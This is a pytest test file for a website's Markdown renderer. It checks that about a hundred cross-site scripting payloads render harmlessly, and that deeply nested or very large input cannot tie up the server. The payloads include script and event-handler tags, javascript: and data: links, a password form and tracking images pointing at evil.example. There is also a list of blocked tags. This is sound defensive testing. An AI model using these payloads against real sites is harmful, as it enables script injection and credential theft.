"""Markdown is safe no matter who wrote it (R61): attacks as people and pages really write them."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from beacon_site.text.markdown import by_direction, link, link_citations, render

ATTACKS = (
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>body{background:url('//evil.example/x')}</style>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<div hx-get='/settings/' hx-trigger='load'>x</div>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</article></main><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "`` ` ``<script>alert(1)</script>",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example\\x)",
    "[x](/\t/evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](http:evil)",
    "[x](https://)",
    "[x](mailto:a@b.example)",
    "[x](tel:123)",
    "[x](ftp://a.example/)",
    "[x](javascript://a.example/%0aalert(1))",
    "[x](http://a.example/\"onmouseover=\"alert(1))",
    "[x](http://a.example 'title\" onclick=alert(1) x=\"')",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: http://a.example \"t' onclick='alert(1)\"",
    "[javascript:alert(1)]()",
    "[x](https://a.example/\u202ecod.exe)",
    # pictures
    "![x](http://evil.example/track.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x\" onerror=\"alert(1)](http://a.example/x.png)",
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    "![x][1]\n\n[1]: http://evil.example/track.png",
    # structure and extensions
    "# <img src=x onerror=alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1) class=x\nx\n```",
    "~~~</code></pre><script>alert(1)</script>\n~~~",
    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |",
    "- [ ] <img src=x onerror=alert(1)>",
    "- [x] [y](javascript:alert(1))",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    "x^[inline <script>alert(1)</script>]",
    "x[^main]\n\n[^main]: a name of ours",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<script\x00>alert(1)</script>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<a href=\"http://a.example\" target=_blank ping='//evil.example'>x</a>",
    "> " * 2000 + "x",
    "[" * 5000 + "x" + "]" * 5000,
    "*" * 20_000,
    "![" * 3000,
    "`" * 9999 + "x",
    "- " * 1000 + "x",
    "<" * 10_000,
    "a **b _c **d_ e** " * 500,
    "{{ 7*7 }} {% load i18n %} ${7*7}",
    "\ud800 lone \udfff",
)  # fmt: skip

LOADS = {"script", "img", "iframe", "object", "embed", "link", "style", "svg", "math", "video",
         "audio", "source", "form", "meta", "base", "template", "button", "body", "noscript",
         "marquee", "details", "picture"}  # fmt: skip


class _Elements(HTMLParser):
    """Collects what a browser would make of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.found


def _is_ours(address: str) -> bool:
    """Return whether a browser (which drops control characters) would stay or use http(s)."""
    squeezed = re.sub(r"[\x00-\x20]", "", address).replace("\\", "/")
    if squeezed.startswith("//"):
        return False
    return squeezed.startswith(("#", "/")) or urlsplit(squeezed).scheme in ("http", "https")


@pytest.mark.requirement("R61")
@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_an_attack_runs_nothing_loads_nothing_and_leads_nowhere(attack: str) -> None:
    for tag, attributes in elements(render(attack)):
        assert tag not in LOADS
        assert not [name for name in attributes if name.startswith(("on", "hx-", "style", "src"))]
        assert set(attributes) <= {
            "href", "title", "rel", "class", "id", "start", "align", "type", "checked", "disabled"
        }  # fmt: skip
        if "href" in attributes:
            assert _is_ours(attributes["href"] or "")
            assert attributes["rel"] == "nofollow noopener noreferrer"
        if "id" in attributes:
            assert (attributes["id"] or "").startswith("fn")


def test_there_are_at_least_sixty_attacks() -> None:
    assert len(set(ATTACKS)) >= 60


@pytest.mark.requirement("R61")
@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("[x](https://a.example/b?c=d&e=f#g)", "https://a.example/b?c=d&e=f#g"),
        ("<http://a.example/>", "http://a.example/"),
        ("[x](/topics/c-12345678/)", "/topics/c-12345678/"),
        ("[x](#what-changed)", "#what-changed"),
        ("[x](https://例え.example/ü)", "https://xn--r8jz45g.example/%C3%BC"),
        ("![a chart](https://a.example/c.png)", "https://a.example/c.png"),
    ],
)
def test_honest_links_work(text: str, address: str) -> None:
    links = [attributes["href"] for tag, attributes in elements(render(text)) if tag == "a"]
    assert links == [address]


def test_headings_leave_the_first_level_to_the_page() -> None:
    assert [tag for tag, _a in elements(render("# a\n\n## b\n\n###### c"))] == ["h2", "h3", "h6"]


def test_tables_task_lists_and_footnotes_are_shown() -> None:
    text = "|a|b|\n|:-|-:|\n|1|2|\n\n- [x] done\n\nsee[^1]\n\n[^1]: below"
    html = render(text)
    assert '<td align="right">2</td>' in html
    assert 'checked="checked"' in html
    assert html.count('href="#fn1"') == html.count('id="fn1"') == 1


def test_a_picture_becomes_a_link_with_its_words() -> None:
    html = render("![a *fine* chart](https://a.example/c.png)")
    assert html.startswith('<p><a href="https://a.example/c.png"')
    assert ">a fine chart</a>" in html


def test_citations_lead_to_their_sources_and_nothing_else_does() -> None:
    html = link_citations(
        render("So it is [1], not [7]. `[1]` and [t [1]](https://a.example)"), [1]
    )
    assert html.count('<sup><a href="#source-1">[1]</a></sup>') == 1
    assert "[7]" in html
    assert "<code>[1]</code>" in html


def test_chinese_and_right_to_left_text_is_kept() -> None:
    assert "固态**电池" not in render("**固态**电池 שלום 💥")
    assert "שלום 💥" in render("**固态**电池 שלום 💥")


def test_each_block_looks_for_its_own_direction() -> None:
    made = by_direction(render("# שלום\n\nHello.\n\n- מים\n- air"))

    assert made == (
        '<h2 dir="auto">שלום</h2>\n<p dir="auto">Hello.</p>\n'
        '<ul>\n<li dir="auto">מים</li>\n<li dir="auto">air</li>\n</ul>\n'
    )


def test_a_quotation_and_what_is_in_it_have_one_direction() -> None:
    # A paragraph with a direction of its own would hide its letters from the quotation's.
    made = by_direction(render("> שלום\n>\n> - מים\n\nHello."))

    assert made.count("dir=") == 2
    assert made.startswith('<blockquote dir="auto">\n<p>')


def test_a_link_that_talks_of_blocks_isnt_a_block() -> None:
    made = by_direction(render('[a](https://example.org "<p onclick=x>")'))

    assert made.count("dir=") == 1


@pytest.mark.parametrize(
    "words",
    ["A](https://evil.example) [B", "a `b", "1.\\", "<https://evil.example>", "[x]: y", "f(x)"],
)
def test_a_link_shows_its_words_as_they_are_and_leads_nowhere_else(words: str):
    html = str(render(f"1. {link(words, 'https://a.example/(b c)')}"))

    assert re.findall(r'href="([^"]*)"', html) == ["https://a.example/%28b%20c%29"]
    assert words.replace("<", "&lt;").replace(">", "&gt;") in html


def test_a_link_of_two_lines_is_one():
    assert link("One\n\n# Two", "https://a.example") == "[One # Two](https://a.example)"


@pytest.mark.parametrize(
    "knot",
    ["![", "[", "^[", "[a](", "- [ ] a\n", "> ", "*_", "|\n" + "|a", "`a", "<http://a"],
)
def test_no_page_keeps_the_server_busy_for_long(knot: str):
    began = time.monotonic()
    html = str(render((knot * 100_000)[:200_000]))

    assert time.monotonic() - began < 20  # measured: 1.5 s at the most
    assert html


WIDE = [
    "a|\n-|\n" + "a\n" * 40_000,
    "|a\n-\n" + "a\n" * 45_000,
    "a|b\n:-:|:-:\n" + "a\n" * 45_000,
    "> a|\n> -|\n" + "> a\n" * 25_000,
    "a|b\n-|-\n1|2\n\n" * 8_000,
    "- a\n" * 25_000,
    "-\ta\n" * 25_000,
    "- a\n\n" * 20_000,
    "# a\n" * 25_000,
    "#\n" * 50_000,
    "a\n\n" * 33_000,
    # Just under the limit:
    "a|\n-|\n" + "a\n" * 11_990,
    "-\ta\n" * 11_990,
    "a\n\n" * 11_990,
    "a\n" * 50_000,
]


@pytest.mark.parametrize("text", WIDE, ids=lambda text: repr(text[:12]))
def test_wide_tables_and_lists_take_two_seconds_of_processor_at_most(text: str):
    began = time.process_time()
    html = str(render(text))

    assert time.process_time() - began < 2  # measured on a busy machine: 1.2 at the most
    assert "<" in html


def test_a_large_table_and_a_long_list_are_still_laid_out():
    table = "| Day | Price |\n|-----|------:|\n" + "| 2026-11-24 | 90 |\n" * 3_000

    assert "<td" in render(table)
    assert "<li>" in render("- An item of a list.\n" * 4_000)


def test_what_cannot_be_laid_out_is_shown_as_it_was_written():
    html = str(render("<b>" + "![" * 50_000))

    assert "shown as plain text" in html
    assert "<pre>&lt;b&gt;![![" in html
